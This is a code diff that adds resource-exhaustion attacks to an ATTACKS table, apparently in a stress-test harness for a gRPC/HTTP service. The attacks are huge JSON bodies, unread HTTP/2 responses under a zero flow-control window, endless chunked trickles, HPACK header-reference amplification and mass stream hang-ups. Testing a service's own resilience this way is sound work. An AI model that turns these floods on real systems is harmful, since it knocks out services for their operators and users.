@@ -34,6 +34,12 @@ const HTTP2_PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"
 const HALF_BLOCK = "\0\0\x01\x01\0\0\0\0\x01\x83"
 const HALF_HANDSHAKE = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00])
 const BYTES = 120_000
+const MIB = 2 ** 20
+
+/** A field that HPACK keeps in its table: name "x", value of 4,000 bytes (RFC 7541 section 6.2.1). */
+const LONG_FIELD = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x76)])
+/** POST, and 16,000 references to that field. */
+const REFERENCES = Buffer.concat([Buffer.from([0x83, 0x86, 0x84]), Buffer.alloc(16_000, 0xbe)])
 
 type Attack = (target: Target, from: string) => Promise<unknown>
 
@@ -90,6 +96,61 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       send(session, REGISTER, manyRules(LARGE, 1_000, ++limit), target.token),
     )
   },
+  "expensive bodies": (target, from) => {
+    const fields = Buffer.alloc(4 * MIB, Buffer.from([0x0a, 0]))
+    const digits = `{"requests":[{"serviceId":${"1".repeat(4 * MIB - 100)}}]}`
+    const bodies = [`{"requests":[${"{},".repeat(MIB)}{}]}`, digits].map(whole)
+    return Promise.all([
+      inSessions(1, 1, target, from, (session) => send(session, MANY, fields)),
+      keep(2, async (index) => {
+        const socket = connectOver(target.httpPort, from)
+        socket.write(bodies[index] as string)
+        await closed(socket)
+      }),
+    ])
+  },
+  "unread answers": (target, from) => {
+    const message = batch(OPEN, 10_000)
+    const requests = Array(5_000).fill(`{"service":"${OPEN}","request":{"user":"a"}}`)
+    const body = whole(`{"requests":[${requests}]}`)
+    return Promise.all([
+      inSessions(4, 4, target, from, (session) => {
+        // The service may send no byte of an answer.
+        session.settings({ initialWindowSize: 0 })
+        return send(session, MANY, message)
+      }),
+      keep(20, async () => {
+        const socket = connectOver(target.httpPort, from).pause()
+        for (let left = 10; left > 0; left--) socket.write(body)
+        await closed(socket)
+      }),
+    ])
+  },
+  "small pieces": (target, from) =>
+    keep(20, async () => {
+      const socket = connectOver(target.httpPort, from)
+      socket.write(
+        `POST ${MANY} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`,
+      )
+      while (!socket.destroyed) if (!socket.write("1\r\n \r\n".repeat(1_000))) await untilDrained(socket)
+    }),
+  "header references": (target, from) =>
+    keep(4, async () => {
+      const socket = connectOver(target.grpcPort, from)
+      socket.write(HTTP2_PREFACE, "latin1")
+      socket.write(headersFrame(1, LONG_FIELD))
+      for (let stream = 3; !socket.destroyed; stream += 2) {
+        if (!socket.write(headersFrame(stream, REFERENCES))) await untilDrained(socket)
+      }
+    }),
+  "hang-ups": (target, from) =>
+    keep(2, async () => {
+      const session = openSession(target, from)
+      const calls = Array.from({ length: 2_000 }, () => send(session, SINGLE, single(HOLDING, "held")))
+      for (const call of calls) call.resume()
+      await pause(2_000)
+      session.destroy()
+    }),
   "wrong tokens": (target, from) =>
     inSessions(1, 10, target, from, (session) =>
       send(session, REGISTER, manyRules(LARGE, 1, 1), "a-token-that-is-wrong"),
@@ -158,6 +219,26 @@ function connectOver(port: number, localAddress: string): Socket {
 function quiet<Each extends Socket>(socket: Each): Each {
   socket.on("error", () => undefined).resume()
   return socket
+}
+
+/** Returns a request over HTTP for a batch. */
+function whole(body: string): string {
+  const head = `POST ${MANY} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json`
+  return `${head}\r\ncontent-length: ${body.length}\r\n\r\n${body}`
+}
+
+/** Returns a HEADERS frame with END_HEADERS and END_STREAM (RFC 9113 section 6.2). */
+function headersFrame(stream: number, block: Buffer): Buffer {
+  const head = Buffer.alloc(9)
+  head.writeUIntBE(block.length, 0, 3)
+  head.writeUInt16BE(0x0105, 3)
+  head.writeUInt32BE(stream, 5)
+  return Buffer.concat([head, block])
+}
+
+/** Resolves when a socket takes more, or has closed. */
+async function untilDrained(socket: Socket): Promise<void> {
+  await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined)
 }
 
 async function closed(socket: Socket): Promise<void> {
